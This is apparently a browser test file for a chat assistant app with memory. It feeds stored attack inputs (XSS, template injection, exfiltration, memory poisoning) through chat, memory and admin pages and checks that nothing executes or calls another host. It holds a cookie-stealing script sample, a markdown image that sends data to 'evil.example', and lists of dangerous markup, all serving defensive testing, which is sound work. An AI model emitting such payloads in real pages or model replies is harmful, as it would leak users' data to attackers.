"""Every attack that a page might carry out, shown in a real Chromium: chat, memory, admin.

The page fixture fails on each error of the console, which a broken policy is, and on each
request to another host.
"""

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Dialog, Page, expect

from tests.attacks.running import RECORDS
from tests.doubles.model_server import NOTHING_TO_KEEP, ModelServer
from tests.doubles.replies import Asked, Reply, Script
from tests.running import Site, running_site

pytestmark = [pytest.mark.browser, pytest.mark.worker]

KINDS = {"xss", "template_injection", "exfiltration", "unicode_bidi", "memory_poisoning_delayed"}
ATTACKS = [one["input"] for one in RECORDS if one["kind"] in KINDS]
ROOT = "root@example.org"
PASSWORD = "a-long-walk-77"  # noqa: S105 - of a site that lives for one test
MAKE_ROOT = (
    f"from accounts.models import User; User.objects.create_superuser({ROOT!r}, {PASSWORD!r})"
)
STAFF_LISTS = ("memory/episode", "memory/extractionrun", "memory/mergedecision", "memory/job")
# Scripts of ours are files, and data that none runs.
FOREIGN_SCRIPTS = "main script:not([src^='/static/']):not([type='application/json'])"
PICTURE = "![x](https://evil.example/?q=all)"


def _repeating(asked: Asked) -> Script:
    """Look up what was said, then repeat both, with a picture that would carry them away."""
    if not asked.body.get("stream"):
        return NOTHING_TO_KEEP
    messages = asked.body["messages"]
    said = next(one["content"] for one in reversed(messages) if one["role"] == "user")
    told = [one["content"] for one in messages if one["role"] == "tool"]
    if not told:
        return Reply.calling(("memory_search", {"query": said[:500]}))
    if said.startswith("Forget") and told[-1].startswith("<memory"):
        return Reply.calling(("memory_forget", {"line": 1}))
    return Reply("\n\n".join([said, *told, PICTURE]))


@pytest.fixture(scope="module")
def running() -> Iterator[Site]:
    """A site whose model repeats whatever it is told."""
    with ModelServer() as model:
        model.answer = _repeating
        with running_site(OPENAI_BASE_URL=model.url, OPENAI_API_KEY="test") as site:
            site.manage("shell", "-v0", "-c", MAKE_ROOT)
            yield site


@pytest.fixture(scope="module")
def site(running: Site) -> str:
    return running.url


def _refuse(dialog: Dialog) -> None:
    """Fail on a dialog: no page of ours opens one."""
    dialog.dismiss()
    pytest.fail(f"a page opened a dialog: {dialog.type}")


def _say(page: Page, text: str, number: int) -> None:
    page.get_by_label("Your message").fill(text)
    page.get_by_role("button", name="Send").click()
    answers = page.locator("article.theirs .prose")
    expect(answers).to_have_count(number)


def _written(page: Page, text: str) -> None:
    """Write it down as a memory by hand: the name of a thing, and the words."""
    page.goto("/memory/add/")
    page.get_by_label("Connection").fill("likes")
    page.get_by_label("What or who").fill(text[:150])
    page.get_by_label("In your own words").fill(text)
    page.get_by_role("button", name="Remember this").click()


def _taught(page: Page, text: str) -> None:
    page.goto("/memory/rules/")
    page.get_by_label("Rule").last.fill(f"Be brief. {text}")
    page.get_by_role("button", name="Use this rule").click()


def _is_clean(page: Page) -> None:
    """Look for what a page of ours never has."""
    for never in ("svg[onload]", "img[onerror]", "[hx-on\\:click]", "iframe", "main style"):
        expect(page.locator(never)).to_have_count(0)
    assert page.locator("main a[href^='javascript:'], main a[href^='data:']").count() == 0
    assert page.locator(FOREIGN_SCRIPTS).count() == 0


def test_only_the_person_forgets_what_the_assistant_asks_to_forget(signed_up: Page) -> None:
    """By keyboard: the question, the preview of every forgetting, and a no."""
    _written(signed_up, "green tea")
    signed_up.goto("/")
    _say(signed_up, "Forget that I like green tea", 1)

    question = signed_up.get_by_role("listitem").filter(has_text="The assistant asks to forget")
    expect(question).to_contain_text("You like green tea")
    question.get_by_role("button", name="Forget…").press("Enter")
    expect(signed_up.get_by_role("dialog")).to_contain_text("This removes 1 memory")
    signed_up.keyboard.press("Escape")
    question.get_by_role("button", name="Keep it").press("Enter")

    expect(signed_up.get_by_text("Kept. Nothing was forgotten.")).to_be_visible()
    signed_up.reload()
    expect(question).to_have_count(0)


def test_no_page_carries_an_attack_out(signed_up: Page) -> None:
    """Said, answered, remembered, taught: shown as text, and nothing is fetched."""
    signed_up.on("dialog", _refuse)
    for number, text in enumerate(ATTACKS, start=1):
        _say(signed_up, text, number)
    chat = signed_up.url
    signed_up.reload()
    _is_clean(signed_up)
    expect(signed_up.get_by_text("<script>alert(document.cookie)</script>").first).to_be_visible()

    for text in ATTACKS:
        _written(signed_up, text)
        _is_clean(signed_up)
    _taught(signed_up, ATTACKS[0])
    for path in ("/memory/", "/memory/?q=alert", "/memory/rules/", "/chats/", chat):
        signed_up.goto(path)
        _is_clean(signed_up)
    for link in _hrefs(signed_up, "/memory/", r"^/memory/[0-9a-f-]{36}/$")[:6]:
        signed_up.goto(link)
        _is_clean(signed_up)
        for about in _hrefs(signed_up, link, r"^/memory/about/")[:2]:
            signed_up.goto(about)
            _is_clean(signed_up)


def test_staff_are_no_target_either(running: Site, page: Page) -> None:
    page.on("dialog", _refuse)
    page.goto("/admin/")
    page.get_by_label("Email").fill(ROOT)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    for kind in STAFF_LISTS:
        page.goto(f"/admin/{kind}/")
        _is_clean(page)
        first = page.locator("#result_list tbody th a")
        if first.count():
            first.first.click()
            _is_clean(page)


def _hrefs(page: Page, path: str, pattern: str) -> list[str]:
    """Return the addresses on a page that have a form."""
    page.goto(path)
    found = page.locator("main a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    return [one for one in dict.fromkeys(found) if one and re.search(pattern, one)]
